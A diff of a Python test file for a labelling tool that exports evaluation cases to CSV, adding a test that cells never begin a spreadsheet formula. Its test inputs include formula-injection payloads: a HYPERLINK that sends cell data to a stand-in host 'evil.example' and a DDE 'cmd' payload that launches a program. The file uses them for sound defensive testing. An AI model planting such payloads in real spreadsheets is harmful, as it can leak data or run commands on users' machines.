@@ -1,8 +1,11 @@
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -63,6 +66,7 @@ def test_blind_line_holds_the_situation_and_nothing_else() -> None:
         "required",
         "forbidden",
         "answer_facts",
+        "signature",
     ]
     assert set(line["situation"]) == {"goal", "turns", "fixtures", "injected"}
     text = json.dumps(line)
@@ -104,6 +108,7 @@ def test_csv_sheet_is_blind_and_readable(tmp_path: Path) -> None:
         "forbidden:get_order",
         "forbidden:issue_refund",
         "answer_facts",
+        "signature",
     ]
     assert 'assistant:\n  -> get_order({""order_id"": ""1""}) => {""ok"": true}' in data
     for secret in ("refunds-g6", "outside_policy", "rev-9", "SECRET-RUBRIC"):
@@ -128,7 +133,7 @@ def test_read_back_jsonl_and_csv(tmp_path: Path) -> None:
     head, row = text.split("\n", 1)
     cells = row.rstrip("\n")
     csv_path.write_text(
-        head + "\n" + cells[: -len(",,,,,")] + 'refuse,,,,yes,"Cannot refund\nafter 30 days"\n'
+        head + "\n" + cells[: -len(",,,,,,")] + 'refuse,,,,yes,"Cannot refund\nafter 30 days",\n'
     )
     entries, problems = read_sheet(csv_path, "s.csv")
     assert problems == []
@@ -220,3 +225,52 @@ def test_csv_round_trip(facts: list[str], outcome: str, required: set[str]) -> N
     assert answer.outcome == outcome
     assert {t for t, yes in answer.required.items() if yes} == required
     assert answer.facts() == facts
+
+
+_TRIGGERS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''", "'=", ""])
+_FORMULAS = st.sampled_from(
+    ['HYPERLINK("http://evil.example/?d="&A1,"open")', "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)"]
+)
+_TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=30)
+
+
+@st.composite
+def _hostile(draw: st.DrawFn) -> str:
+    return draw(_TRIGGERS) + draw(st.one_of(_FORMULAS, _TEXT))
+
+
+@settings(max_examples=60, deadline=None)
+@given(goal=_hostile(), said=_hostile(), state_key=_hostile())
+def test_csv_cells_never_start_a_formula_and_read_back_exactly(
+    tmp_path_factory: pytest.TempPathFactory, goal: str, said: str, state_key: str
+) -> None:
+    data = case_dict("c-1")
+    data["situation"]["goal"] = goal
+    data["situation"]["turns"] = [{"role": "user", "content": said}]
+    data["situation"]["state"] = {state_key: said}
+    case = Case.model_validate(data)
+    line = sheet_line("label", "refunds", "lab-14", case, "refunds-g7", TOOLS)
+    rendered = render_csv([line], "label", list(TOOLS)).decode()
+    header, *rows = list(csv.reader(io.StringIO(rendered, newline="")))
+    for cell in rows[0]:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    rows[0][header.index("outcome")] = "resolve"  # the labeller answers
+    out = io.StringIO()
+    csv.writer(out).writerows([header, *rows])  # as a spreadsheet saves it: CRLF, quoted
+    path = tmp_path_factory.mktemp("sheet") / "s.csv"
+    path.write_bytes(out.getvalue().encode("utf-8"))
+    entries, problems = read_sheet(path, "s.csv")
+    assert problems == []
+    answer = entries[0].answer
+    assert answer.goal == case.situation.goal
+    assert json.loads(answer.state) == case.situation.state
+    assert answer.conversation == f"user: {said}".rstrip()
+
+
+def test_escape_cell_round_trips_apostrophes() -> None:
+    from casework.labelling import escape_cell, unescape_cell
+
+    for text in ["'", "''", "'=1", "=1", "@x", "-", "plain", "", "\tx", "\rx", "+1 555"]:
+        assert unescape_cell(escape_cell(text)) == text
+    assert escape_cell("=1") == "'=1"
+    assert escape_cell("'x") == "''x"
